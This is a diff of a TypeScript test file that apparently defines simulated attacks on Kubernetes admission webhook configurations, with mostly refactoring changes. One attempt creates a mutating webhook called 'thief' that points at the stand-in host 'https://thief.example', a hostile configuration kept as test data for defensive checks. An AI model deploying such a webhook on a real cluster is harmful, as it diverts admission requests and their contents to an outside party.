@@ -4,27 +4,12 @@ import {
   mutatingWebhookConfigurations,
   validatingWebhookConfigurations,
 } from '../../../src/kube/well-known.ts';
-import {
-  ASKS,
-  BUNDLE,
-  creates,
-  meta,
-  patches,
-  TENANT,
-  type Attempt,
-  type Json,
-  type Strings,
-} from './attack.ts';
+import { ASKS, BUNDLE, creates, meta, patches, TENANT } from './attack.ts';
+import type { Attempt, Json, Strings } from './attack.ts';
 
 const entry = (name: string, clientConfig: object, more: object = {}) => ({
-  ...{
-    name: `${name}.example.com`,
-    clientConfig,
-    rules: [],
-    sideEffects: 'None',
-    admissionReviewVersions: ['v1'],
-  },
-  ...more,
+  ...{ name: `${name}.example.com`, clientConfig, rules: [], sideEffects: 'None' },
+  ...{ admissionReviewVersions: ['v1'], ...more },
 });
 const theirs = { service: { namespace: TENANT, name: 'web' } };
 const configuration = (name: string, annotations: Strings, ...webhooks: readonly object[]): Json => ({
@@ -53,7 +38,7 @@ const hookAttack = (
 
 export const ON_WEBHOOKS: readonly Attempt[] = [
   {
-    name: 'a mutating webhook of its own',
+    name: 'a new mutating webhook',
     write: creates(
       mutatingWebhookConfigurations,
       configuration('thief', {}, entry('x', { url: 'https://thief.example' })),
